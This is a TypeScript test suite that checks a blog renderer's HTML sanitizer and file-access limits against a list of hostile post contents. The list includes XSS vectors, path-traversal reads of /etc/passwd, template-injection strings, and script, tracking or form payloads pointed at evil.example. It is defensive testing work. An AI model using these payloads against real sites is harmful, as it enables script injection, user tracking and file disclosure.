import assert from 'node:assert/strict';
import type { Element } from 'hast';
import { pageDocument } from '../../../src/blog/page/page-document.ts';
import type { Card } from '../../../src/blog/related/card.ts';
import { draw } from './draw.ts';
import { elementsOf } from './html-tree.ts';

/** Each tries to run, load, restyle or impersonate. `evil` in an address and `x(` in code mark what must not stay. */
const bodies: readonly string[] = [
  '<script>x()</script>',
  '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  'text <script>x()</script> text',
  '<img src=a.png onerror=x()>',
  '<img src="a.png" OnLoad="x()">',
  '<p onclick="x()">words</p>',
  '<details ontoggle=x() open><summary>s</summary></details>',
  '<a href="javascript:x()">a</a>',
  '<a href="JaVaScRiPt:x()">a</a>',
  '<a href="java&#10;script:x()">a</a>',
  '<a href=" &#14; javascript:x()">a</a>',
  '[a](javascript:x())',
  '[a](<javascript:x()>)',
  '[a][b]\n\n[b]: javascript:x()',
  '<javascript:x()>',
  '[a](vbscript:x())',
  '[a](data:text/html,<script>x()</script>)',
  '![a](data:text/html,<script>x()</script>)',
  '![a](javascript:x())',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '[a](file:///etc/passwd)',
  '[a](command:workbench.action.terminal.new)',
  '[a](vscode://evil/run)',
  '![a](file:///etc/passwd)',
  '![a](../../../etc/passwd)',
  '![a](%2e%2e/%2e%2e/%2e%2e/etc/passwd)',
  '![a](..\\..\\..\\etc\\passwd)',
  '![a](/etc/passwd)',
  '![a](https://evil.example/count.png)',
  '![a](//evil.example/count.png)',
  '![a](/\\evil.example/count.png)',
  '<img srcset="https://evil.example/a.png 1x" src="a.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src=a.png></picture>',
  '<svg onload=x()><script>x()</script></svg>',
  '<svg><foreignObject><iframe src="javascript:x()"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:x()"><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>',
  '<math href="javascript:x()">a</math>',
  '<style>body{background:url(https://evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/a)">a</p>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=a><button>go</button></form>',
  '<input type="image" src="https://evil.example/a.png">',
  '<button formaction="javascript:x()">a</button>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>x()</script>"></iframe>',
  '<object data="https://evil.example/a"></object><embed src="https://evil.example/a">',
  '<video src="https://evil.example/a" onerror=x()></video><audio src=https://evil.example/a></audio>',
  '<body onload=x()>',
  '<html onclick=x()>',
  '<template><script>x()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
  '<textarea><img src=x onerror=x()></textarea>',
  '<title><img src=x onerror=x()></title>',
  '<xmp><img src=x onerror=x()></xmp>',
  '<!--><img src=x onerror=x()>-->',
  '<![CDATA[<img src=x onerror=x()>]]>',
  '<p id="wisemark-page" name="body">clobber</p>',
  '<a id="location" name="location" href="#">clobber</a>',
  '<img name="getElementById" src=a.png>',
  '<p class="wisemark-finding" data-finding="0" data-related-card data-path="/etc/passwd">fake</p>',
  '<mark class="wisemark-finding" data-finding="0" tabindex="0">fake</mark>',
  '</div></article><h1>out</h1><script>x()</script>',
  '</main></body></html><script>x()</script>',
  '`<script>x()</script>` and \\<script>x()\\</script>',
  '```html"onmouseover="x()\n<script>x()</script>\n```',
  '![a" onerror="x()](a.png "t\\" onload=\\"x()")',
  '[a](https://example.org/"onmouseover="x())',
  '{{ "<script>x()</script>" | raw }}',
  '{% raw %}<img src=x onerror=x()>{% endraw %}',
  "{% render 'footer' %}{% include '/etc/passwd' %}",
  '{{ post.bodySlot }}{{ constructor.constructor("x()")() }}',
  '\0s0\0 \0i0\0 \0f0\0 &#0;s0&#0;',
  '<a href="https://example.org" target="_top" ping="https://evil.example/" download>a</a>',
  '[^a]\n\n[^a]: <script>x()</script> <img src=x onerror=x()>',
  '| a |\n|---|\n| <img src=x onerror=x()> |',
  '<details>\n\n<script>x()</script>\n\n</details>',
  '<b><p><i></b><script>x()</script>',
];

const quoted = (value: string): string => JSON.stringify(value.replaceAll('\0', ''));

/** Every value of front matter that reaches the page. */
function frontMatter(payload: string): string {
  const value = quoted(payload);
  const fields = ['title', 'description', 'author', 'date', 'category', 'image', 'imageAlt'].map(
    (name) => `${name}: ${value}`,
  );
  const training = `training: { title: ${value}, blurb: ${value}, url: ${value}, image: ${value}, price: ${value}, cta: ${value} }`;
  return [
    '---',
    ...fields,
    `tags: [${value}]`,
    training,
    'newsletter: true',
    `slug: ${value}`,
    '---',
    '',
    'Body.',
  ].join('\n');
}

function card(payload: string): Card {
  return {
    path: payload,
    title: payload,
    url: payload,
    excerpt: payload,
    image: payload,
    alt: payload,
    score: 1,
    reasons: [payload],
    chosen: true,
  };
}

const allowedElements = new Set(
  (
    'html head meta title style body main div article header p h1 h2 h3 h4 h5 h6 ul ol li figure figcaption section aside footer span a img em strong ' +
    'code pre blockquote table thead tbody tr th td hr br del details summary sup sub mark form fieldset label input button b i time'
  ).split(' '),
);
const allowedAttributes = new Set(
  (
    'className id lang title href src alt type disabled checked placeholder autoComplete htmlFor tabIndex open dateTime start ariaLabel ' +
    'ariaLabelledBy ariaDescribedBy ariaHidden dataSourceStart dataSourceEnd dataRelatedCard dataPath dataFinding dataRule dataFootnoteRef ' +
    'align charSet httpEquiv content name property value'
  ).split(' '),
);

/** What is wrong with an element, '' where nothing is. */
function fault(element: Element): string {
  const { tagName, properties } = element;
  if (!allowedElements.has(tagName)) return `element ${tagName}`;
  for (const [name, value] of Object.entries(properties)) {
    const text = Array.isArray(value) ? value.join(' ') : String(value);
    if (!allowedAttributes.has(name)) return `attribute ${name} on ${tagName}`;
    if (name === 'src' && !text.startsWith('data:image/')) return `src ${text}`;
    if (name === 'href' && /^[^/?#]*:/.test(text) && !/^(?:https?|mailto|tel):/i.test(text)) return `href ${text}`;
    if (name === 'id' && !/^(?:user-content-|wisemark-(?:sign-up|related))/.test(text)) return `id ${text}`;
    if ((name === 'name' || name === 'content' || name === 'property') && tagName !== 'meta')
      return `${name} on ${tagName}`;
    if (name === 'httpEquiv' && text !== 'Content-Security-Policy') return `meta ${text}`;
  }
  return '';
}

/** The theme's own form and fields are the only ones, and no fake mark or card passes for ours. */
function check(html: string, cards: number, marks: number): void {
  const elements = elementsOf(html);
  const count = (name: string) => elements.filter((element) => element.tagName === name).length;
  assert.deepEqual(elements.map(fault).filter(Boolean), []);
  assert.ok(count('form') <= 1 && count('button') <= 1 && count('style') <= 1 && count('head') === 1);
  assert.equal(elements.filter((element) => 'dataRelatedCard' in element.properties).length, cards);
  assert.equal(elements.filter((element) => 'dataFinding' in element.properties).length, marks);
  assert.ok(!html.includes('\0'));
}

describe('hostile posts', () => {
  const files = { '/blog/posts/a.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]) };
  const secret = new TextEncoder().encode('root:x:0:0:secret');

  it('has a good many payloads', () => assert.ok(bodies.length >= 60, String(bodies.length)));

  for (const payload of bodies) {
    it(`leaves nothing of ${JSON.stringify(payload).slice(0, 90)}`, async () => {
      const inBody = await draw(`---\ntitle: T\nnewsletter: true\n---\n\n${payload}\n\nafter\n`, { files });
      check(pageDocument(inBody, { scriptless: true }), 0, 0);
      const inMeta = await draw(frontMatter(payload), { files, cards: [card(payload)] });
      check(pageDocument(inMeta, { scriptless: true }), 1, 0);
      const finding = { rule: payload, severity: payload, message: payload, offset: 0, endOffset: 4 };
      const marked = await draw('Body of a post.', { findings: [finding] });
      check(pageDocument(marked, { scriptless: true }), 0, 1);
    });
  }

  it('reads no file outside of the workspace', async () => {
    const asked: string[] = [];
    const all = new Proxy({} as Record<string, Uint8Array>, {
      getOwnPropertyDescriptor: (_target, name) => {
        asked.push(String(name));
        return { value: secret, configurable: true, enumerable: true };
      },
    });
    for (const payload of bodies) {
      await draw(payload, { files: all });
      await draw(frontMatter(payload), { files: all, cards: [card(payload)] });
    }
    assert.ok(asked.length > 0);
    for (const path of asked) assert.ok(path.startsWith('/blog/') && !path.split('/').includes('..'), path);
  });

  it('shows template code as the words they are', async () => {
    const page = await draw('---\ntitle: "{{ language }}"\n---\n\n{{ language }} {% assign a = 1 %}\n');
    assert.ok(page.html.includes('{{ language }}</h1>'));
    assert.ok(page.html.includes('<p>{{ language }} {% assign a = 1 %}</p>'));
  });
});
